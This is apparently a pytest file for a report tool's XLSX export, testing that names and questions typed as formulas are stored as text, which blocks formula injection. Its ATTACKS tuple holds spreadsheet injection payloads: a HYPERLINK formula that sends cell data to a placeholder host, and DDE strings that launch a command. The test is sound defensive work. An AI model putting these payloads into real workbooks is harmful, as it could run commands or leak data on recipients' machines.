"""XLSX: a name or question typed as a formula stays text in the unit workbook (no formula injection)."""

from __future__ import annotations

import dataclasses
import io
import re
import zipfile

import pytest
from openpyxl import load_workbook

from reports.model import HardQuestion, PendingMember
from reports.unit_xlsx import build_unit_xlsx
from tests.unit.reports.samples import sample_unit

ATTACKS = (
    '=HYPERLINK("http://example.invalid/?d="&A1,"Bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
)


@pytest.mark.parametrize("attack", ATTACKS)
def test_user_strings_are_written_as_text_never_as_formulas(attack: str) -> None:
    data = dataclasses.replace(
        sample_unit(),
        resolution_title=attack,
        pending=(PendingMember(attack, attack, (attack,)),),
        hardest=(HardQuestion(attack, attack, 3, 1),),
    )
    data = dataclasses.replace(data, rows=(dataclasses.replace(data.rows[0], name=attack),))
    content = build_unit_xlsx(data)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        sheets = [archive.read(name).decode() for name in archive.namelist() if name.startswith("xl/worksheets/")]
    assert not any(re.search(r"<f[ >]", sheet) for sheet in sheets)
    workbook = load_workbook(io.BytesIO(content))
    found = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and attack in cell.value
    ]
    # The summary name, the pending name, chi bộ and step, the question and its section; the title line too.
    assert len(found) >= 6
    for cell in found:
        assert cell.data_type == "s"
        if cell.value == attack:
            assert cell.quotePrefix
